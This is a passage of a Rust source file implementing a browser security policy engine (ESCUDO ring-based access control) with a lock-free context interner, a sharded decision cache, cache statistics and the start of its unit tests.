//!   where a losing thread adopts the winner's dense id. A first-touch *storm*
//!   (many threads × many new origins) therefore scales instead of convoying
//!   behind the write half of the `RwLock<ContextTable>` this replaced; the
//!   single-threaded [`ContextTable`] is retained as the reference
//!   implementation the `interner_concurrent` bench gates against.
//! * the decision cache is split into [`EscudoEngine::shard_count`] independent
//!   shards, each behind its own small mutex, selected by `hash(pid, oid, op)`.
//!   Two threads checking different decisions almost always land on different
//!   shards and proceed without contending.
//! * every shard is bounded independently; when one shard fills up only *that*
//!   shard is cleared ([`ShardStats::evictions`] counts these), so a burst of new
//!   contexts can no longer wipe the whole warm cache at once.
//! * statistics are per-shard relaxed counters. [`EngineStats`] is derived as
//!   `decisions = hits + misses`, which keeps a concurrent `stats()` reader
//!   self-consistent by construction (`cache_hits` can never exceed `decisions`).
//!
//! [`decide`]: PolicyEngine::decide
//! [`decide_many`]: PolicyEngine::decide_many
//!
//! # Example
//!
//! ```
//! use std::sync::Arc;
//! use escudo_core::engine::{engine_for_mode, EscudoEngine, PolicyEngine};
//! use escudo_core::context::{ObjectContext, ObjectKind, PrincipalContext, PrincipalKind};
//! use escudo_core::{Acl, Operation, Origin, PolicyMode, Ring};
//!
//! let engine: Arc<dyn PolicyEngine> = engine_for_mode(PolicyMode::Escudo);
//! let origin = Origin::new("http", "blog.example", 80);
//! let script = PrincipalContext::new(PrincipalKind::Script, origin.clone(), Ring::new(3));
//! let post = ObjectContext::new(ObjectKind::DomElement, origin, Ring::new(1))
//!     .with_acl(Acl::uniform(Ring::new(1)));
//!
//! // First check computes the three rules; the second is served from the cache.
//! assert!(engine.decide(&script, &post, Operation::Write).is_denied());
//! assert!(engine.decide(&script, &post, Operation::Write).is_denied());
//! ```

use std::collections::HashMap;
use std::fmt;
use std::hash::{BuildHasherDefault, Hasher};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use crate::acl::Acl;
use crate::context::{ObjectContext, PrincipalContext, PrincipalKind};
use crate::interner::AtomicInterner;
use crate::operation::Operation;
use crate::origin::Origin;
use crate::policy::{decide, Decision, PolicyMode};
use crate::ring::Ring;

/// A fast non-cryptographic hasher (the rustc `FxHash` multiply-xor scheme) for the
/// interner and decision-cache maps. Decision keys are attacker-influenced only
/// through page markup the application already trusts itself to serve, and the maps
/// are bounded, so DoS-grade collision resistance (SipHash) buys nothing here —
/// while string hashing sits directly on the mediation hot path.
#[derive(Debug, Default, Clone, Copy)]
struct FxHasher {
    hash: u64,
}

impl FxHasher {
    const SEED: u64 = 0x51_7c_c1_b7_27_22_0a_95;

    #[inline]
    fn add_to_hash(&mut self, word: u64) {
        self.hash = (self.hash.rotate_left(5) ^ word).wrapping_mul(Self::SEED);
    }
}

impl Hasher for FxHasher {
    #[inline]
    fn write(&mut self, mut bytes: &[u8]) {
        while let Some(chunk) = bytes.first_chunk::<8>() {
            self.add_to_hash(u64::from_le_bytes(*chunk));
            bytes = &bytes[8..];
        }
        if let Some(chunk) = bytes.first_chunk::<4>() {
            self.add_to_hash(u64::from(u32::from_le_bytes(*chunk)));
            bytes = &bytes[4..];
        }
        for &byte in bytes {
            self.add_to_hash(u64::from(byte));
        }
    }

    #[inline]
    fn write_u8(&mut self, i: u8) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u16(&mut self, i: u16) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u32(&mut self, i: u32) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u64(&mut self, i: u64) {
        self.add_to_hash(i);
    }

    #[inline]
    fn write_usize(&mut self, i: usize) {
        self.add_to_hash(i as u64);
    }

    #[inline]
    fn finish(&self) -> u64 {
        self.hash
    }
}

type FxHashMap<K, V> = HashMap<K, V, BuildHasherDefault<FxHasher>>;

/// Interned id of a principal's decision-relevant context.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct PrincipalId(u32);

impl PrincipalId {
    /// The raw interned index.
    #[must_use]
    pub const fn index(self) -> u32 {
        self.0
    }
}

/// Interned id of an object's decision-relevant context.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ObjectId(u32);

impl ObjectId {
    /// The raw interned index.
    #[must_use]
    pub const fn index(self) -> u32 {
        self.0
    }
}

/// The decision-relevant part of a [`PrincipalContext`].
///
/// The decision procedure never looks at the free-form `label`, and of the `kind` it
/// only distinguishes the browser chrome (which is exempt from mediation). Dropping
/// the irrelevant fields here is what makes interning effective: thousands of
/// distinctly-labelled principals collapse onto a handful of ids.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
struct PrincipalKey {
    is_browser: bool,
    origin: Origin,
    ring: Ring,
}

impl PrincipalKey {
    fn of(principal: &PrincipalContext) -> Self {
        PrincipalKey {
            is_browser: principal.kind == PrincipalKind::Browser,
            origin: principal.origin.clone(),
            ring: principal.ring,
        }
    }

    /// Field-wise comparison against a borrowed context — the alloc-free probe.
    fn matches(&self, principal: &PrincipalContext) -> bool {
        self.is_browser == (principal.kind == PrincipalKind::Browser)
            && self.ring == principal.ring
            && self.origin == principal.origin
    }
}

/// Hashes the decision-relevant fields of a principal context without building a
/// [`PrincipalKey`] (no clones on the probe path).
fn hash_principal(principal: &PrincipalContext) -> u64 {
    let mut hasher = FxHasher::default();
    hasher.write_u8(u8::from(principal.kind == PrincipalKind::Browser));
    hasher.write(principal.origin.scheme().as_bytes());
    hasher.write(principal.origin.host().as_bytes());
    hasher.write_u16(principal.origin.port());
    hasher.write_u16(principal.ring.level());
    hasher.finish()
}

/// The decision-relevant part of an [`ObjectContext`] (origin, ring, ACL — the
/// object's kind and label never influence the three rules).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
struct ObjectKey {
    origin: Origin,
    ring: Ring,
    acl: Acl,
}

impl ObjectKey {
    fn of(object: &ObjectContext) -> Self {
        ObjectKey {
            origin: object.origin.clone(),
            ring: object.ring,
            acl: object.acl,
        }
    }

    /// Field-wise comparison against a borrowed context — the alloc-free probe.
    fn matches(&self, object: &ObjectContext) -> bool {
        self.ring == object.ring && self.acl == object.acl && self.origin == object.origin
    }
}

/// Hashes the decision-relevant fields of an object context without building an
/// [`ObjectKey`] (no clones on the probe path).
fn hash_object(object: &ObjectContext) -> u64 {
    let mut hasher = FxHasher::default();
    hasher.write(object.origin.scheme().as_bytes());
    hasher.write(object.origin.host().as_bytes());
    hasher.write_u16(object.origin.port());
    hasher.write_u16(object.ring.level());
    hasher.write_u16(object.acl.read.level());
    hasher.write_u16(object.acl.write.level());
    hasher.write_u16(object.acl.use_.level());
    hasher.finish()
}

/// Interning table mapping security contexts onto dense small-integer ids.
///
/// Two contexts receive the same id exactly when the decision procedure cannot
/// distinguish them — same origin, same ring, same ACL (and, for principals, the same
/// browser-chrome exemption). Ids are dense (`0, 1, 2, …`), so downstream layers can
/// index arrays with them.
///
/// This is the **single-threaded reference implementation** (`&mut self`
/// interning). The production engine uses the lock-free [`ContextInterner`]
/// instead; this table is retained as the oracle the `interner_concurrent` bench
/// races against (wrapped in the `RwLock` the old engine used) and as the
/// convenient table for single-owner workload analysis.
#[derive(Debug, Default)]
pub struct ContextTable {
    // Keyed by the 64-bit fx hash of the borrowed context fields; the bucket holds the
    // owned keys for exact comparison. Probing therefore never clones a context —
    // only a genuinely new context pays the key allocation.
    principals: FxHashMap<u64, Vec<(PrincipalKey, PrincipalId)>>,
    objects: FxHashMap<u64, Vec<(ObjectKey, ObjectId)>>,
    principal_count: usize,
    object_count: usize,
}

impl ContextTable {
    /// Creates an empty table.
    #[must_use]
    pub fn new() -> Self {
        ContextTable::default()
    }

    /// Looks up an already-interned principal context without mutating the table.
    ///
    /// In the retained `RwLock` reference protocol this is the read-locked fast
    /// path: once a context has been seen, any number of threads can resolve its
    /// id under the shared lock.
    #[must_use]
    pub fn lookup_principal(&self, principal: &PrincipalContext) -> Option<PrincipalId> {
        self.principals
            .get(&hash_principal(principal))?
            .iter()
            .find(|(key, _)| key.matches(principal))
            .map(|(_, id)| *id)
    }

    /// Looks up an already-interned object context without mutating the table.
    #[must_use]
    pub fn lookup_object(&self, object: &ObjectContext) -> Option<ObjectId> {
        self.objects
            .get(&hash_object(object))?
            .iter()
            .find(|(key, _)| key.matches(object))
            .map(|(_, id)| *id)
    }

    /// Interns a principal context, returning its stable id.
    pub fn intern_principal(&mut self, principal: &PrincipalContext) -> PrincipalId {
        let bucket = self
            .principals
            .entry(hash_principal(principal))
            .or_default();
        if let Some((_, id)) = bucket.iter().find(|(key, _)| key.matches(principal)) {
            return *id;
        }
        let id = PrincipalId(u32::try_from(self.principal_count).expect("≤ u32::MAX principals"));
        self.principal_count += 1;
        bucket.push((PrincipalKey::of(principal), id));
        id
    }

    /// Interns an object context, returning its stable id.
    pub fn intern_object(&mut self, object: &ObjectContext) -> ObjectId {
        let bucket = self.objects.entry(hash_object(object)).or_default();
        if let Some((_, id)) = bucket.iter().find(|(key, _)| key.matches(object)) {
            return *id;
        }
        let id = ObjectId(u32::try_from(self.object_count).expect("≤ u32::MAX objects"));
        self.object_count += 1;
        bucket.push((ObjectKey::of(object), id));
        id
    }

    /// Number of distinct principal contexts interned so far.
    #[must_use]
    pub fn principal_count(&self) -> usize {
        self.principal_count
    }

    /// Number of distinct object contexts interned so far.
    #[must_use]
    pub fn object_count(&self) -> usize {
        self.object_count
    }
}

/// The lock-free context interner: two [`AtomicInterner`] bucket tables (one per
/// context kind) mapping decision-relevant contexts onto dense
/// [`PrincipalId`]/[`ObjectId`]s, through `&self`.
///
/// This replaces the `RwLock<ContextTable>` the sharded engine used to carry:
/// warm lookups are wait-free (no lock at all), and a first-touch storm — many
/// threads interning many genuinely new contexts at once — proceeds as
/// concurrent CAS-appends instead of convoying behind one write lock. Ids are
/// assigned exactly as [`ContextTable`] assigns them (dense, in first-claim
/// order), so the two implementations are interchangeable for everything
/// downstream of the id.
#[derive(Debug, Default)]
pub struct ContextInterner {
    principals: AtomicInterner<PrincipalKey>,
    objects: AtomicInterner<ObjectKey>,
}

impl ContextInterner {
    /// Creates an interner sized for an engine's realistic context population
    /// (tens of distinct contexts; see
    /// [`DEFAULT_INTERNER_BUCKETS`](crate::interner::DEFAULT_INTERNER_BUCKETS)).
    #[must_use]
    pub fn new() -> Self {
        ContextInterner::default()
    }

    /// Creates an interner with an explicit bucket count per context kind
    /// (rounded up to a power of two) — storm-scale tables should size up so
    /// chains stay shallow.
    #[must_use]
    pub fn with_buckets(buckets: usize) -> Self {
        ContextInterner {
            principals: AtomicInterner::with_buckets(buckets),
            objects: AtomicInterner::with_buckets(buckets),
        }
    }

    /// Wait-free lookup of an already-interned principal context.
    #[must_use]
    pub fn lookup_principal(&self, principal: &PrincipalContext) -> Option<PrincipalId> {
        self.principals
            .lookup(hash_principal(principal), |key| key.matches(principal))
            .map(PrincipalId)
    }

    /// Wait-free lookup of an already-interned object context.
    #[must_use]
    pub fn lookup_object(&self, object: &ObjectContext) -> Option<ObjectId> {
        self.objects
            .lookup(hash_object(object), |key| key.matches(object))
            .map(ObjectId)
    }

    /// Interns a principal context through `&self`: wait-free when warm, a
    /// CAS-append on first touch. Racing threads interning the same context all
    /// observe one dense id.
    pub fn intern_principal(&self, principal: &PrincipalContext) -> PrincipalId {
        PrincipalId(self.principals.intern(
            hash_principal(principal),
            |key| key.matches(principal),
            || PrincipalKey::of(principal),
        ))
    }

    /// Interns an object context through `&self` (see
    /// [`ContextInterner::intern_principal`]).
    pub fn intern_object(&self, object: &ObjectContext) -> ObjectId {
        ObjectId(self.objects.intern(
            hash_object(object),
            |key| key.matches(object),
            || ObjectKey::of(object),
        ))
    }

    /// Number of distinct principal contexts interned so far.
    #[must_use]
    pub fn principal_count(&self) -> usize {
        self.principals.len()
    }

    /// Number of distinct object contexts interned so far.
    #[must_use]
    pub fn object_count(&self) -> usize {
        self.objects.len()
    }

    /// Slot claims (either kind) that lost their CAS to a racing thread — the
    /// direct measure of first-touch contention.
    #[must_use]
    pub fn cas_retries(&self) -> u64 {
        self.principals.cas_retries() + self.objects.cas_retries()
    }

    /// The deepest bucket chain across both tables, in entries — the walk length
    /// of the unluckiest probe (stats-path only; walks the tables).
    #[must_use]
    pub fn max_bucket_depth(&self) -> usize {
        self.principals
            .max_bucket_depth()
            .max(self.objects.max_bucket_depth())
    }
}

/// Counters of one decision-cache shard.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ShardStats {
    /// Decisions this shard served from its cache.
    pub hits: u64,
    /// Decisions this shard had to compute (and, capacity permitting, fill).
    pub misses: u64,
    /// Times this shard was cleared wholesale because it reached its bound.
    pub evictions: u64,
    /// Entries resident in the shard when the snapshot was taken.
    pub entries: u64,
}

/// Counters describing how an engine's cache is performing.
///
/// Snapshots are **self-consistent**: `decisions` is derived as
/// `cache_hits + cache_misses` from the same per-shard counter reads, so a reader
/// racing concurrent `decide` calls can never observe `cache_hits > decisions`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct EngineStats {
    /// Total decisions requested (always `cache_hits + cache_misses`).
    pub decisions: u64,
    /// Decisions served from the memoization cache.
    pub cache_hits: u64,
    /// Decisions that had to run the full origin/ring/ACL procedure.
    pub cache_misses: u64,
    /// Distinct principal contexts interned.
    pub interned_principals: u64,
    /// Distinct object contexts interned.
    pub interned_objects: u64,
    /// First-touch slot claims the lock-free interner lost to a racing thread
    /// (0 for engines without an interner). A storm of new contexts shows up
    /// here — warm steady state never increments it.
    pub interner_cas_retries: u64,
    /// Deepest interner bucket chain, in entries — the walk length of the
    /// unluckiest context probe (0 for engines without an interner).
    pub interner_max_bucket_depth: u64,
    /// Total capacity-triggered wholesale shard clears.
    pub evictions: u64,
    /// Per-shard breakdown (empty for engines without a cache).
    pub shards: Vec<ShardStats>,
}

impl EngineStats {
    /// Cache hit rate in `[0, 1]` (0 when no decisions were made).
    #[must_use]
    pub fn hit_rate(&self) -> f64 {
        if self.decisions == 0 {
            0.0
        } else {
            self.cache_hits as f64 / self.decisions as f64
        }
    }
}

/// The single decision interface every enforcement point goes through.
///
/// Implementations must be cheap to share: `decide` takes `&self` and the trait
/// requires `Send + Sync`, so one engine instance can serve every page, thread and
/// tenant of a deployment behind an `Arc<dyn PolicyEngine>`.
pub trait PolicyEngine: Send + Sync + fmt::Debug {
    /// The policy mode this engine enforces.
    fn mode(&self) -> PolicyMode;

    /// Decides whether `principal` may perform `op` on `object`.
    ///
    /// Must return exactly what [`crate::policy::decide`] returns for this engine's
    /// mode — engines may cache or precompute, never diverge.
    fn decide(
        &self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        op: Operation,
    ) -> Decision;

    /// Batch mediation: decides a slice of checks in order.
    ///
    /// Engines with shared internal state can acquire their locks once for the whole
    /// batch, which is what makes bulk paths (cookie attachment across a jar, event
    /// floods) cheaper than `n` individual `decide` calls.
    fn decide_many(
        &self,
        checks: &[(&PrincipalContext, &ObjectContext, Operation)],
    ) -> Vec<Decision> {
        checks
            .iter()
            .map(|(p, o, op)| self.decide(p, o, *op))
            .collect()
    }

    /// Cache/interning statistics. Every implementation must uphold
    /// `decisions == cache_hits + cache_misses`; engines without a cache report
    /// every decision as a miss.
    fn stats(&self) -> EngineStats;

    /// Decisions served from the cache so far — for hot callers that only need the
    /// hit counter. The default derives it from [`stats`](PolicyEngine::stats);
    /// engines with cheaper reads (lock-free counters) should override it.
    fn cache_hits(&self) -> u64 {
        self.stats().cache_hits
    }
}

/// One lock stripe of the decision cache: a small bounded map plus its counters.
#[derive(Debug, Default)]
struct CacheShard {
    cache: Mutex<FxHashMap<(PrincipalId, ObjectId, Operation), Decision>>,
    hits: AtomicU64,
    misses: AtomicU64,
    evictions: AtomicU64,
    /// This shard's *current* entry bound. Starts at the engine's base
    /// [`EscudoEngine::shard_capacity`] and is rebalanced from observed
    /// eviction skew: hot shards borrow budget from cold ones while the total
    /// across all shards stays exactly `base × shard_count`.
    capacity: AtomicUsize,
}

impl CacheShard {
    fn with_capacity(capacity: usize) -> Self {
        CacheShard {
            capacity: AtomicUsize::new(capacity),
            ..CacheShard::default()
        }
    }
}

/// The production ESCUDO engine: context interning plus a sharded decision cache.
///
/// The three MAC rules are pure functions of `(principal context, object context,
/// operation)`, so their outcome can be memoized. The engine interns both contexts
/// into small ids through the lock-free [`ContextInterner`] and keys the cache on
/// `(principal_id, object_id, op)`; repeated checks on hot DOM and event-dispatch
/// paths are then a wait-free interner walk plus one shard-local hash lookup —
/// no global lock anywhere on the decision path.
///
/// The cache is split into [`EscudoEngine::shard_count`] lock stripes selected by
/// `hash(pid, oid, op)`, so concurrent sessions contend only when they race on the
/// *same* decisions. Each shard is bounded independently
/// ([`EscudoEngine::with_cache_capacity`] divides the total bound across shards);
/// a full shard is cleared wholesale, evicting only its own slice of the cache
/// (decisions are pure, so eviction can never produce a wrong answer — only a
/// recomputation).
#[derive(Debug)]
pub struct EscudoEngine {
    interner: ContextInterner,
    shards: Vec<CacheShard>,
    /// Bound on entries per shard; 0 disables memoization entirely.
    shard_capacity: usize,
}

/// Default bound on the number of memoized decisions (divided across the shards;
/// see [`EscudoEngine::with_cache_capacity`] for the exact shard-granular bound).
pub const DEFAULT_CACHE_CAPACITY: usize = 64 * 1024;

/// The default decision-cache shard count: sized from the machine's
/// [`std::thread::available_parallelism`] (shards exist to keep concurrent
/// threads off each other's locks, so the thread count is the right yardstick),
/// rounded up to a power of two and clamped to `[4, 64]` — at least a few
/// stripes even on a single-core runner (two sessions on one core still
/// interleave), and bounded so a many-core machine does not fragment the cache
/// capacity into slivers. [`EscudoEngine::with_shards`] overrides it.
#[must_use]
pub fn default_shard_count() -> usize {
    std::thread::available_parallelism()
        .map_or(4, std::num::NonZeroUsize::get)
        .next_power_of_two()
        .clamp(4, 64)
}

impl Default for EscudoEngine {
    fn default() -> Self {
        EscudoEngine::new()
    }
}

impl EscudoEngine {
    /// Creates an engine with the default shard count and cache capacity.
    #[must_use]
    pub fn new() -> Self {
        EscudoEngine::with_cache_capacity(DEFAULT_CACHE_CAPACITY)
    }

    /// Creates an engine bounding the decision cache to roughly `capacity` entries,
    /// spread over [`default_shard_count()`] shards.
    ///
    /// The bound is shard-granular: `capacity` is divided across the shards rounding
    /// up, so the total resident entries can exceed `capacity` by up to
    /// `shard_count - 1` (each shard holds at least one entry when memoization is
    /// enabled at all).
    ///
    /// A capacity of `0` disables memoization entirely (every decision recomputes the
    /// rules — the configuration the cold-path benchmarks measure).
    #[must_use]
    pub fn with_cache_capacity(capacity: usize) -> Self {
        EscudoEngine::with_shards(default_shard_count(), capacity)
    }

    /// Creates an engine with an explicit shard count and cache capacity.
    ///
    /// `shard_count` is rounded up to a power of two (and at least 1) so shard
    /// selection is a mask; `capacity` is divided across the shards as described on
    /// [`EscudoEngine::with_cache_capacity`].
    #[must_use]
    pub fn with_shards(shard_count: usize, capacity: usize) -> Self {
        let shard_count = shard_count.max(1).next_power_of_two();
        let shard_capacity = if capacity == 0 {
            0
        } else {
            capacity.div_ceil(shard_count)
        };
        EscudoEngine {
            interner: ContextInterner::new(),
            shards: (0..shard_count)
                .map(|_| CacheShard::with_capacity(shard_capacity))
                .collect(),
            shard_capacity,
        }
    }

    /// The lock-free context interner backing this engine (storm observability:
    /// occupancy, CAS retries, bucket depth).
    #[must_use]
    pub fn interner(&self) -> &ContextInterner {
        &self.interner
    }

    /// Number of lock stripes in the decision cache.
    #[must_use]
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// *Base* bound on memoized decisions per shard (0 when memoization is
    /// disabled). Individual shards drift from this base as eviction skew is
    /// observed — see [`EscudoEngine::shard_capacities`] — but the total across
    /// all shards stays exactly `shard_capacity() × shard_count()`.
    #[must_use]
    pub fn shard_capacity(&self) -> usize {
        self.shard_capacity
    }

    /// The current per-shard entry bounds, after any eviction-skew rebalances.
    /// Always sums to `shard_capacity() × shard_count()`, and every shard keeps
    /// at least `max(1, shard_capacity() / 2)` (when memoization is enabled).
    #[must_use]
    pub fn shard_capacities(&self) -> Vec<usize> {
        self.shards
            .iter()
            .map(|shard| shard.capacity.load(Ordering::Relaxed))
            .collect()
    }

    /// Redistributes the total cache budget across the shards in proportion to
    /// their observed eviction counts: a shard whose keys keep overflowing its
    /// slice gets a larger bound, paid for by shards that never evict. Runs on
    /// each eviction (evictions are rare by construction — each one wipes a
    /// whole shard — so this O(shards) pass is off the hot path).
    ///
    /// Invariants: the per-shard bounds always sum to exactly
    /// `shard_capacity × shard_count` (the configured total is a hard bound,
    /// redistributed but never grown), and no shard drops below
    /// `max(1, shard_capacity / 2)` (a cold shard keeps a useful working set —
    /// skew is a forecast, not a guarantee).
    fn rebalance_shards(&self) {
        if self.shard_capacity == 0 || self.shards.len() < 2 {
            return;
        }
        let total = self.shard_capacity * self.shards.len();
        let floor = (self.shard_capacity / 2).max(1);
        let spendable = total - floor * self.shards.len();
        let weights: Vec<u64> = self
            .shards
            .iter()
            .map(|shard| 1 + shard.evictions.load(Ordering::Relaxed))
            .collect();
        let weight_sum: u64 = weights.iter().sum();
        let mut bounds: Vec<usize> = weights
            .iter()
            .map(|w| floor + usize::try_from(spendable as u64 * w / weight_sum).unwrap_or(0))
            .collect();
        // Flooring the proportional shares drops at most `shards - 1` entries;
        // hand the remainder to the hottest shards so the total stays exact.
        let mut leftover = total - bounds.iter().sum::<usize>();
        let mut order: Vec<usize> = (0..bounds.len()).collect();
        order.sort_by_key(|&i| std::cmp::Reverse(weights[i]));
        for index in order {
            if leftover == 0 {
                break;
            }
            bounds[index] += 1;
            leftover -= 1;
        }
        for (shard, bound) in self.shards.iter().zip(bounds) {
            shard.capacity.store(bound, Ordering::Relaxed);
        }
    }

    /// Drops every memoized decision (interned ids survive — they are still valid).
    /// Explicit clears are not counted as evictions.
    pub fn clear_cache(&self) {
        for shard in &self.shards {
            shard.cache.lock().expect("shard lock").clear();
        }
    }

    /// Resolves the interned ids of a context pair: a wait-free published-slot
    /// walk when both are already known (the steady-state path), a lock-free
    /// CAS-append only on first touch. Racing first touches of the same context
    /// converge on one dense id (the losers adopt the winner's).
    fn intern_pair(
        &self,
        principal: &PrincipalContext,
        object: &ObjectContext,
    ) -> (PrincipalId, ObjectId) {
        (
            self.interner.intern_principal(principal),
            self.interner.intern_object(object),
        )
    }

    /// Picks the cache shard for a decision key.
    ///
    /// The shard index comes from the *high* hash bits: the shard's own `FxHashMap`
    /// derives its bucket index from the low bits of this same hash scheme, so
    /// masking the low bits here would leave every key in shard `i` congruent to
    /// `i` modulo the shard count — stranding all of them on a fraction of the
    /// map's slots and turning the warm path into long probe chains.
    fn shard_for(&self, pid: PrincipalId, oid: ObjectId, op: Operation) -> &CacheShard {
        let mut hasher = FxHasher::default();
        hasher.write_u32(pid.0);
        hasher.write_u32(oid.0);
        hasher.write_u8(op as u8);
        &self.shards[((hasher.finish() >> 32) as usize) & (self.shards.len() - 1)]
    }

    /// Decides for an already-interned context pair: shard probe, then compute + fill
    /// on a miss. The decision itself is computed outside any lock (it is pure).
    fn decide_interned(
        &self,
        pid: PrincipalId,
        oid: ObjectId,
        principal: &PrincipalContext,
        object: &ObjectContext,
        op: Operation,
    ) -> Decision {
        let shard = self.shard_for(pid, oid, op);
        let key = (pid, oid, op);
        if let Some(cached) = shard.cache.lock().expect("shard lock").get(&key) {
            shard.hits.fetch_add(1, Ordering::Relaxed);
            return cached.clone();
        }
        let decision = decide(PolicyMode::Escudo, principal, object, op);
        shard.misses.fetch_add(1, Ordering::Relaxed);
        if self.shard_capacity > 0 {
            let mut evicted = false;
            {
                let mut cache = shard.cache.lock().expect("shard lock");
                if cache.len() >= shard.capacity.load(Ordering::Relaxed)
                    && !cache.contains_key(&key)
                {
                    // Decisions are pure: a wholesale clear is always safe, keeps the
                    // eviction policy trivial (no LRU bookkeeping on the hot path), and —
                    // because shards are bounded independently — only evicts this shard's
                    // slice of the cache.
                    cache.clear();
                    shard.evictions.fetch_add(1, Ordering::Relaxed);
                    evicted = true;
                }
                cache.insert(key, decision.clone());
            }
            if evicted {
                // Adapt outside the shard lock: this shard just proved its slice
                // of keys outgrows its bound, so let it borrow budget from
                // shards that never evict.
                self.rebalance_shards();
            }
        }
        decision
    }
}

impl PolicyEngine for EscudoEngine {
    fn mode(&self) -> PolicyMode {
        PolicyMode::Escudo
    }

    fn decide(
        &self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        op: Operation,
    ) -> Decision {
        let (pid, oid) = self.intern_pair(principal, object);
        self.decide_interned(pid, oid, principal, object, op)
    }

    fn decide_many(
        &self,
        checks: &[(&PrincipalContext, &ObjectContext, Operation)],
    ) -> Vec<Decision> {
        // The old engine resolved a whole batch's ids under one read-lock
        // acquisition to amortize the lock; the lock-free interner has nothing
        // to amortize — every resolve is a wait-free walk — so the batch path
        // is simply the per-check path without any setup.
        checks
            .iter()
            .map(|(principal, object, op)| {
                let (pid, oid) = self.intern_pair(principal, object);
                self.decide_interned(pid, oid, principal, object, *op)
            })
            .collect()
    }

    fn stats(&self) -> EngineStats {
        let principals = self.interner.principal_count() as u64;
        let objects = self.interner.object_count() as u64;
        let mut shards = Vec::with_capacity(self.shards.len());
        let (mut hits, mut misses, mut evictions) = (0u64, 0u64, 0u64);
        for shard in &self.shards {
            let snapshot = ShardStats {
                hits: shard.hits.load(Ordering::Relaxed),
                misses: shard.misses.load(Ordering::Relaxed),
                evictions: shard.evictions.load(Ordering::Relaxed),
                entries: shard.cache.lock().expect("shard lock").len() as u64,
            };
            hits += snapshot.hits;
            misses += snapshot.misses;
            evictions += snapshot.evictions;
            shards.push(snapshot);
        }
        EngineStats {
            // Derived from the same counter reads, so `cache_hits ≤ decisions` and
            // `decisions == cache_hits + cache_misses` hold in every snapshot, even
            // with decides racing this reader.
            decisions: hits + misses,
            cache_hits: hits,
            cache_misses: misses,
            interned_principals: principals,
            interned_objects: objects,
            interner_cas_retries: self.interner.cas_retries(),
            interner_max_bucket_depth: self.interner.max_bucket_depth() as u64,
            evictions,
            shards,
        }
    }

    /// Lock-free: sums the per-shard hit counters without touching the interner
    /// lock, the shard mutexes or the heap (unlike a full
    /// [`stats`](PolicyEngine::stats) snapshot).
    fn cache_hits(&self) -> u64 {
        self.shards
            .iter()
            .map(|shard| shard.hits.load(Ordering::Relaxed))
            .sum()
    }
}

/// The legacy same-origin baseline behind the [`PolicyEngine`] trait.
///
/// The origin rule is a handful of string comparisons, so this engine neither interns
/// nor caches — it exists so the "without ESCUDO" configuration runs through exactly
/// the same enforcement plumbing as the full model.
#[derive(Debug, Default)]
pub struct SameOriginEngine {
    decisions: AtomicU64,
}

impl SameOriginEngine {
    /// Creates the baseline engine.
    #[must_use]
    pub fn new() -> Self {
        SameOriginEngine::default()
    }
}

impl PolicyEngine for SameOriginEngine {
    fn mode(&self) -> PolicyMode {
        PolicyMode::SameOriginOnly
    }

    fn decide(
        &self,
        principal: &PrincipalContext,
        object: &ObjectContext,
        op: Operation,
    ) -> Decision {
        self.decisions.fetch_add(1, Ordering::Relaxed);
        decide(PolicyMode::SameOriginOnly, principal, object, op)
    }

    fn stats(&self) -> EngineStats {
        let decisions = self.decisions.load(Ordering::Relaxed);
        EngineStats {
            decisions,
            // No cache: every decision runs the full procedure, i.e. is a miss —
            // which also preserves the `decisions == hits + misses` invariant.
            cache_misses: decisions,
            ..EngineStats::default()
        }
    }
}

/// The factory enforcement layers use: the full engine for [`PolicyMode::Escudo`],
/// the baseline for [`PolicyMode::SameOriginOnly`].
#[must_use]
pub fn engine_for_mode(mode: PolicyMode) -> Arc<dyn PolicyEngine> {
    match mode {
        PolicyMode::Escudo => Arc::new(EscudoEngine::new()),
        PolicyMode::SameOriginOnly => Arc::new(SameOriginEngine::new()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::{ObjectKind, PrincipalKind};

    fn site() -> Origin {
        Origin::new("http", "app.example", 80)
    }

    fn other_site() -> Origin {
        Origin::new("http", "evil.example", 80)
    }

    fn script(ring: u16) -> PrincipalContext {
        PrincipalContext::new(PrincipalKind::Script, site(), Ring::new(ring))
    }

    fn dom(ring: u16, acl: Acl) -> ObjectContext {
        ObjectContext::new(ObjectKind::DomElement, site(), Ring::new(ring)).with_acl(acl)
    }

    #[test]
    fn interning_collapses_label_variants() {
        let mut table = ContextTable::new();
        let a = script(3).with_label("inline script #1");
        let b = script(3).with_label("inline script #2");
        let c = script(2);
        assert_eq!(table.intern_principal(&a), table.intern_principal(&b));
        assert_ne!(table.intern_principal(&a), table.intern_principal(&c));
        assert_eq!(table.principal_count(), 2);

        let x = dom(1, Acl::uniform(Ring::new(1))).with_label("post");
        let y = dom(1, Acl::uniform(Ring::new(1))).with_label("other post");
        let z = dom(1, Acl::uniform(Ring::new(0)));
        assert_eq!(table.intern_object(&x), table.intern_object(&y));
        assert_ne!(table.intern_object(&x), table.intern_object(&z));
        assert_eq!(table.object_count(), 2);
    }

    #[test]
    fn interning_distinguishes_browser_chrome() {
        let mut table = ContextTable::new();
        let chrome = PrincipalContext::browser(site());
        let ring0_script = script(0);
        // Same origin and ring, but only one of them enjoys the chrome exemption.
        assert_ne!(
            table.intern_principal(&chrome),
            table.intern_principal(&ring0_script)
        );
    }

    #[test]
    fn cached_decisions_match_the_free_function() {
        let engine = EscudoEngine::new();
        let object = dom(2, Acl::uniform(Ring::new(1)));
        for ring in 0u16..5 {
            for op in Operation::ALL {
                let expected = decide(PolicyMode::Escudo, &script(ring), &object, op);
                // Cold, then cached: both must be byte-identical to `decide`.
                assert_eq!(engine.decide(&script(ring), &object, op), expected);
                assert_eq!(engine.decide(&script(ring), &object, op), expected);
            }
        }
        let stats = engine.stats();
        assert_eq!(stats.decisions, 30);
